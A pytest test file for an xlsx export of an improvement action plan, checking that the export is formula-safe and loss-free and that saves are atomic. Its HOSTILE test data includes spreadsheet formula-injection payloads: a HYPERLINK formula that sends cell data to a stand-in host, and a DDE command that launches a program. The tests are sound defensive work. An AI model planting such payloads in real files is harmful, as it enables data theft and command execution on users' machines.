"""The table export: formula-safe, loss-free, atomic, and a working spreadsheet (RELIABILITY C)."""

from __future__ import annotations

import errno
import os
import re
import shutil
import subprocess
import time
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest
from openpyxl.utils import get_column_letter
from openpyxl.workbook.workbook import Workbook

from improvement_desk.domain.brag import Brag, Confidence
from improvement_desk.interchange import safe_cells
from improvement_desk.interchange.columns import PLAN_COLUMNS
from improvement_desk.interchange.problems import ExportRefused
from improvement_desk.interchange.safe_cells import (
    EXCEL_CELL_LIMIT,
    TextCleaner,
    remove_stale_temp_files,
)
from improvement_desk.interchange.xlsx_export import (
    ExportMeta,
    ExportReport,
    export_table,
    ordered_columns,
)

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
META = ExportMeta(
    board_name="Children & Families Improvement Board",
    title="Improvement action plan",
    marking="OFFICIAL-SENSITIVE",
    generated_at=datetime(2014, 3, 31, 12, 0, tzinfo=UTC),
    author="Siân Ŵyn",
)
ORDERED = ordered_columns(PLAN_COLUMNS)
HOSTILE = (
    '=HYPERLINK("http://x/?d="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "#N/A",
    "#REF!",
)


def letter(field: str) -> str:
    return str(get_column_letter(next(i for i, c in enumerate(ORDERED, 1) if c.field == field)))


def plan_row(key: int, reference: str, **changes: object) -> dict[str, object]:
    row: dict[str, object] = {
        "key": key,
        "recommendation_reference": "R1",
        "recommendation_text": "Improve the quality of assessments",
        "theme": "Front door",
        "reference": reference,
        "description": "Audit 20 assessments a month",
        "lead_officer": "Siân Ŵyn",
        "start_date": date(2013, 6, 1),
        "target_date": date(2014, 5, 31),
        "success_measures": "R&D <b>",
        "status": Brag.AMBER,
        "confidence": Confidence.MEDIUM,
        "progress_update": "Ten audits done.\nTwo more booked.",
        "evidence_of_impact": None,
        "closure_decision": "",
    }
    row.update(changes)
    return row


ROWS = [
    plan_row(11, "1.1"),
    plan_row(12, "1.2", status=Brag.RED, confidence=Confidence.LOW),
    plan_row(13, "2.1", status=Brag.BLUE, target_date=date(2013, 12, 31), start_date=None),
]


def export(path: Path, rows: list[dict[str, object]] = ROWS, **options: Any) -> ExportReport:
    return export_table(path, META, PLAN_COLUMNS, rows, **options)


@pytest.fixture
def exported(tmp_path: Path) -> Iterator[tuple[Any, ExportReport]]:
    report = export(tmp_path / "plan.xlsx")
    workbook = openpyxl.load_workbook(report.path)
    yield workbook, report
    workbook.close()


@pytest.fixture
def old_file(tmp_path: Path) -> tuple[Path, bytes]:
    """A good earlier export at the target, which no failed export may damage."""
    target = tmp_path / "plan.xlsx"
    export(target)
    return target, target.read_bytes()


def temp_files(folder: Path) -> list[Path]:
    return sorted(folder.glob(".*.tmp"))


def sheet_xml(path: Path) -> bytes:
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


# EX-1, EX-5 -----------------------------------------------------------------------------


def test_hostile_text_stays_text_and_never_becomes_a_formula(tmp_path: Path) -> None:
    rows = [
        plan_row(i, f"9.{i}", description=text, progress_update=text)
        for i, text in enumerate(HOSTILE, start=1)
    ]
    report = export(tmp_path / "hostile.xlsx", rows)

    xml = sheet_xml(report.path)
    assert b"<f>" not in xml
    assert b"<f " not in xml
    cells = {c.get("r"): c for c in ElementTree.fromstring(xml).iter(f"{MAIN}c")}
    sheet = openpyxl.load_workbook(report.path).active
    for row, text in enumerate(HOSTILE, start=5):
        for field in ("description", "progress_update"):
            coordinate = f"{letter(field)}{row}"
            assert cells[coordinate].get("t") == "inlineStr", coordinate
            cell = sheet[coordinate]
            assert cell.data_type == "s"
            # A lone CR is stored as a line break, which is what any XML reader sees anyway.
            assert cell.value == text.replace("\r", "\n")
    assert report.cleaned_characters == 0


def test_unicode_and_markup_survive_exactly(exported: tuple[Any, ExportReport]) -> None:
    sheet = exported[0]["Plan"]
    assert sheet[f"{letter('lead_officer')}5"].value == "Siân Ŵyn"
    assert sheet[f"{letter('success_measures')}5"].value == "R&D <b>"
    assert sheet[f"{letter('progress_update')}5"].value == "Ten audits done.\nTwo more booked."


# EX-3 -----------------------------------------------------------------------------------


def test_text_over_the_cell_limit_is_refused_and_the_old_file_kept(
    old_file: tuple[Path, bytes],
) -> None:
    target, before = old_file
    rows = [*ROWS, plan_row(14, "3.1", progress_update="x" * 40_000)]
    with pytest.raises(ExportRefused) as refused:
        export(target, rows)
    message = str(refused.value)
    assert message.startswith(
        f"Plan!{letter('progress_update')}8 (Progress update, Action ref 3.1)"
    )
    assert "40,000 characters" in message
    assert "32,767" in message
    assert target.read_bytes() == before
    assert temp_files(target.parent) == []


def test_text_at_the_cell_limit_is_written_whole(tmp_path: Path) -> None:
    longest = "y" * EXCEL_CELL_LIMIT
    report = export(tmp_path / "long.xlsx", [plan_row(1, "1.1", progress_update=longest)])
    sheet = openpyxl.load_workbook(report.path).active
    assert sheet[f"{letter('progress_update')}5"].value == longest


def test_the_limit_counts_characters_as_excel_does() -> None:
    # U+1F600 is two UTF-16 units in Excel, so 16,384 of them exceed the limit.
    cell = Workbook().active["A1"]
    with pytest.raises(ExportRefused, match="32,768 characters"):
        safe_cells.write_text(cell, "\U0001f600" * 16_384, place="X!A1", cleaner=TextCleaner())


# EX-4 -----------------------------------------------------------------------------------


def test_control_characters_are_cleaned_and_reported(tmp_path: Path) -> None:
    rows = [
        plan_row(1, "1.1", description="line1\x0bline2"),
        plan_row(2, "1.2", progress_update="NUL\x00"),
        plan_row(3, "1.3", evidence_of_impact="form\x0cfeed"),
    ]
    report = export(tmp_path / "controls.xlsx", rows)

    assert report.cleaned_characters == 3
    assert report.cleaned_places == [
        f"Plan!{letter('description')}5 (Action, Action ref 1.1)",
        f"Plan!{letter('progress_update')}6 (Progress update, Action ref 1.2)",
        f"Plan!{letter('evidence_of_impact')}7 (Evidence of impact, Action ref 1.3)",
    ]
    sheet = openpyxl.load_workbook(report.path).active
    assert sheet[f"{letter('description')}5"].value == "line1\nline2"  # Word's line break
    assert sheet[f"{letter('progress_update')}6"].value == "NUL"
    assert sheet[f"{letter('evidence_of_impact')}7"].value == "form\nfeed"  # Word's page break


def test_characters_xml_cannot_hold_are_cleaned_too() -> None:
    cleaner = TextCleaner()
    assert cleaner.clean("a\ufffeb\udc80c\r\nd", place="X!A1") == "abc\nd"
    assert cleaner.count == 2
    assert cleaner.places == ["X!A1"]


# EX-6, EX-7, EX-8 -----------------------------------------------------------------------


def _failing_save(error: BaseException) -> Any:
    def save(self: Any, target: Any) -> None:
        target.write(b"PK\x03\x04 half a workbook")
        raise error

    return save


@pytest.mark.parametrize(
    ("error", "expected"),
    [
        (RuntimeError("killed mid-write"), RuntimeError),
        (OSError(errno.EIO, "Input/output error"), OSError),
        (OSError(errno.ENOSPC, "No space left on device"), ExportRefused),
    ],
)
def test_a_failed_save_leaves_the_old_file_and_no_temp_file(
    old_file: tuple[Path, bytes],
    monkeypatch: pytest.MonkeyPatch,
    error: BaseException,
    expected: type[BaseException],
) -> None:
    target, before = old_file
    monkeypatch.setattr(Workbook, "save", _failing_save(error))
    with pytest.raises(expected) as raised:
        export(target)
    if expected is ExportRefused:
        assert str(raised.value) == "The disk is full; the previous file is unchanged."
    assert target.read_bytes() == before
    assert temp_files(target.parent) == []


def test_a_target_open_in_excel_gets_a_clear_message(
    old_file: tuple[Path, bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    target, before = old_file

    def refuse(source: Any, destination: Any) -> None:
        raise PermissionError(13, "The process cannot access the file")

    monkeypatch.setattr(os, "replace", refuse)
    with pytest.raises(ExportRefused, match=r"^Cannot write plan\.xlsx: it may be open in Excel"):
        export(target)
    assert target.read_bytes() == before
    assert temp_files(target.parent) == []


def test_stale_temp_files_are_removed_and_fresh_or_foreign_ones_kept(tmp_path: Path) -> None:
    stale = tmp_path / ".plan.xlsx.4242.tmp"
    fresh = tmp_path / ".plan.xlsx.4343.tmp"
    foreign = [tmp_path / ".notes.tmp", tmp_path / "plan.4242.tmp", tmp_path / ".x.12ab.tmp"]
    for path in (stale, fresh, *foreign):
        path.write_bytes(b"PK")
    old = time.time() - 120
    for path in (stale, *foreign):
        os.utime(path, (old, old))

    assert remove_stale_temp_files(tmp_path) == 1
    assert not stale.exists()
    assert fresh.exists()
    assert all(path.exists() for path in foreign)


# Cancellation and progress --------------------------------------------------------------


def test_cancelling_refuses_and_keeps_the_old_file(old_file: tuple[Path, bytes]) -> None:
    target, before = old_file
    with pytest.raises(ExportRefused, match=r"^Export cancelled; the previous file is unchanged"):
        export(target, cancelled=lambda: True)
    assert target.read_bytes() == before
    assert temp_files(target.parent) == []


def test_progress_every_200_rows_and_cancel_part_way(old_file: tuple[Path, bytes]) -> None:
    target, before = old_file
    many = [plan_row(i, f"{i}.1") for i in range(1, 451)]
    seen: list[int] = []
    report = export(target.with_name("many.xlsx"), many, progress=seen.append)
    assert seen == [200, 400, 450]
    assert report.rows == 450

    seen.clear()
    with pytest.raises(ExportRefused, match="cancelled"):
        export(target, many, progress=seen.append, cancelled=lambda: bool(seen))
    assert seen == [200]
    assert target.read_bytes() == before


# The working spreadsheet ----------------------------------------------------------------


def test_title_block_header_freeze_filter_and_widths(exported: tuple[Any, ExportReport]) -> None:
    workbook, report = exported
    assert report.rows == 3
    assert workbook.sheetnames == ["Plan", "Notes"]
    sheet = workbook["Plan"]
    assert sheet["A1"].value == META.board_name
    assert sheet["A1"].font.b
    assert sheet["A2"].value == "Improvement action plan as at 31 March 2014 — OFFICIAL-SENSITIVE"
    assert sheet["A3"].value is None

    headers = [sheet.cell(row=4, column=i).value for i in range(1, len(ORDERED) + 1)]
    assert headers == [c.header for c in ORDERED]
    assert headers[-1] == "Record key"
    header = sheet["A4"]
    assert header.font.b
    assert header.font.color.rgb.endswith("FFFFFF")
    assert header.fill.fgColor.rgb.endswith("1F3A5F")
    assert header.alignment.wrap_text
    assert header.border.bottom.style == "thin"

    assert sheet.freeze_panes == f"{get_column_letter(letter_index('reference') + 1)}5"
    assert sheet.auto_filter.ref == f"A4:{letter('key')}7"
    for spec in ORDERED:
        width = sheet.column_dimensions[letter(spec.field)].width
        assert width == (max(spec.width, 13) if spec.kind == "date" else spec.width)
    assert sheet[f"{letter('description')}5"].alignment.wrap_text
    assert sheet[f"{letter('description')}5"].alignment.vertical == "top"


def letter_index(field: str) -> int:
    return next(i for i, c in enumerate(ORDERED, 1) if c.field == field)


def test_dates_are_real_excel_dates(exported: tuple[Any, ExportReport]) -> None:
    sheet = exported[0]["Plan"]
    target = sheet[f"{letter('target_date')}5"]
    assert target.is_date
    assert target.value.date() == date(2014, 5, 31)
    assert target.number_format == "dd mmm yyyy"
    assert sheet[f"{letter('start_date')}7"].value is None


def test_status_and_confidence_have_drop_downs(exported: tuple[Any, ExportReport]) -> None:
    sheet = exported[0]["Plan"]
    lists = {str(v.sqref): v for v in sheet.data_validations.dataValidation}
    status = lists[f"{letter('status')}5:{letter('status')}7"]
    assert status.type == "list"
    assert status.formula1 == '"Red,Amber,Green,Blue,Not started"'
    assert status.allow_blank
    confidence = lists[f"{letter('confidence')}5:{letter('confidence')}7"]
    assert confidence.formula1 == '"High,Medium,Low"'
    assert confidence.allow_blank
    assert sheet[f"{letter('status')}5"].value == "Amber"
    assert sheet[f"{letter('confidence')}6"].value == "Low"


def test_brag_colours_come_from_conditional_formatting(exported: tuple[Any, ExportReport]) -> None:
    sheet = exported[0]["Plan"]
    status_range = f"{letter('status')}5:{letter('status')}7"
    rules = {
        rule.formula[0]: rule
        for formatting in sheet.conditional_formatting
        if str(formatting.sqref) == status_range
        for rule in formatting.rules
    }
    assert set(rules) == {f'"{b.label}"' for b in Brag}
    for status in Brag:
        rule = rules[f'"{status.label}"']
        assert rule.type == "cellIs"
        assert rule.operator == "equal"
        colour = status.colour.lstrip("#").upper()
        assert rule.dxf.fill.fgColor.rgb.endswith(colour)
        assert rule.dxf.fill.bgColor.rgb.endswith(colour)
        white = status in {Brag.RED, Brag.BLUE}
        assert rule.dxf.font.color.rgb.endswith("FFFFFF" if white else "000000")
    # No static fill: a changed status recolours itself.
    assert sheet[f"{letter('status')}6"].fill.fill_type is None


def test_key_column_is_last_hidden_and_an_integer(exported: tuple[Any, ExportReport]) -> None:
    sheet = exported[0]["Plan"]
    key = letter("key")
    assert key == get_column_letter(len(ORDERED))
    assert sheet.column_dimensions[key].hidden
    assert [sheet[f"{key}{row}"].value for row in (5, 6, 7)] == [11, 12, 13]
    assert not sheet.protection.sheet


def test_notes_sheet_explains_the_workbook(exported: tuple[Any, ExportReport]) -> None:
    notes = exported[0]["Notes"]
    texts = [tuple(row) for row in notes.iter_rows(values_only=True)]
    flat = "\n".join(str(c) for row in texts for c in row if c is not None)
    assert "Do not change the Record key column; it matches your copy to the plan." in flat
    assert "Improvement action plan for Children & Families Improvement Board" in flat
    assert "31 March 2014" in flat
    assert "by Siân Ŵyn" in flat
    assert "OFFICIAL-SENSITIVE" in flat
    table = {row[0]: row[1:3] for row in texts if row[0] in {c.header for c in ORDERED}}
    for spec in ORDERED:
        assert table[spec.header] == ("Yes" if spec.editable else "No", spec.note or None)
    assert ("Blue", Brag.BLUE.meaning) in [tuple(row[:2]) for row in texts]


def test_print_setup_and_marking_on_every_page(exported: tuple[Any, ExportReport]) -> None:
    workbook = exported[0]
    for sheet in workbook.worksheets:
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.page_setup.fitToWidth == 1
        assert sheet.page_setup.fitToHeight == 0
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.HeaderFooter.differentOddEven
        assert sheet.HeaderFooter.differentFirst
        for header in (sheet.oddHeader, sheet.evenHeader, sheet.firstHeader):
            assert header.center.text == "OFFICIAL-SENSITIVE"
            assert header.left.text == "Children && Families Improvement Board"
        for footer in (sheet.oddFooter, sheet.evenFooter, sheet.firstFooter):
            assert footer.center.text == "OFFICIAL-SENSITIVE"
            assert footer.right.text == "Page &P of &N"
    assert workbook["Plan"].print_title_rows == "$4:$4"


def test_document_properties(exported: tuple[Any, ExportReport]) -> None:
    properties = exported[0].properties
    assert properties.title == "Improvement action plan"
    assert properties.subject == "OFFICIAL-SENSITIVE"
    assert properties.creator == "Siân Ŵyn"
    assert properties.keywords == "improvement plan"
    assert properties.created.replace(tzinfo=UTC) == META.generated_at  # stored as UTC
    assert "Children & Families Improvement Board" in properties.description


def test_protected_owner_return_unlocks_only_editable_columns(tmp_path: Path) -> None:
    report = export(tmp_path / "owner.xlsx", protect=True)
    workbook = openpyxl.load_workbook(report.path)
    sheet = workbook["Plan"]
    protection = sheet.protection
    assert protection.sheet
    assert protection.password is None
    assert not protection.autoFilter  # False means the action is allowed
    assert not protection.sort
    assert not protection.formatColumns
    for spec in ORDERED:
        for row in (5, 6, 7):
            locked = sheet[f"{letter(spec.field)}{row}"].protection.locked
            assert locked is not spec.editable, (spec.field, row)
    assert sheet["A4"].protection.locked
    assert sheet["A1"].protection.locked
    assert workbook["Notes"].protection.sheet
    notes = "\n".join(str(c) for r in workbook["Notes"].iter_rows(values_only=True) for c in r)
    assert "the other cells are locked" in notes


def test_an_empty_table_still_exports(tmp_path: Path) -> None:
    report = export(tmp_path / "empty.xlsx", [])
    sheet = openpyxl.load_workbook(report.path)["Plan"]
    assert report.rows == 0
    assert sheet.auto_filter.ref == f"A4:{letter('key')}5"


def test_naive_timestamps_are_refused() -> None:
    with pytest.raises(ValueError, match="timezone-aware"):
        ExportMeta("Board", "Plan", "OFFICIAL", datetime(2014, 3, 31), "Someone")  # noqa: DTZ001


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) not installed")
def test_libreoffice_opens_and_prints_the_export(tmp_path: Path) -> None:
    report = export(tmp_path / "plan.xlsx")
    result = subprocess.run(
        ["soffice", "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), report.path],
        env={**os.environ, "HOME": str(tmp_path)},
        capture_output=True,
        timeout=180,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    pdf = tmp_path / "plan.pdf"
    assert pdf.exists()
    assert re.match(rb"%PDF-", pdf.read_bytes()[:5])


def test_an_export_tidies_temp_files_left_by_a_killed_one(tmp_path: Path) -> None:
    import os
    import time as clock

    leftover = tmp_path / f".plan.xlsx.{os.getpid() + 1}.tmp"
    leftover.write_bytes(b"half a workbook")
    old = clock.time() - 3600
    os.utime(leftover, (old, old))
    export_table(tmp_path / "plan.xlsx", _meta_for_tidy(), PLAN_COLUMNS, [])
    assert not leftover.exists()
    assert (tmp_path / "plan.xlsx").exists()


def _meta_for_tidy() -> ExportMeta:
    from datetime import UTC, datetime

    return ExportMeta(
        board_name="Board",
        title="Improvement action plan",
        marking="OFFICIAL",
        generated_at=datetime(2014, 3, 31, 9, tzinfo=UTC),
        author="Test Officer",
    )
